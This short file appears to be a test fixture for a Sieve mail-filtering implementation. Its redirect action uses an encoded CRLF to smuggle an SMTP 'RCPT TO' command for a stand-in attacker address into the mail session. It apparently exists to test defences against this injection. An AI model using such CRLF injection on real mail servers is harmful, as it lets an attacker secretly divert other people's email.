# message: plain.eml
require ["fileinto", "envelope", "subaddress", "imap4flags", "variables", "relational", "body", "reject", "copy", "encoded-character", "comparator-i;ascii-numeric"];
redirect "x${hex:0d 0a}RCPT TO:<evil@example.org>";
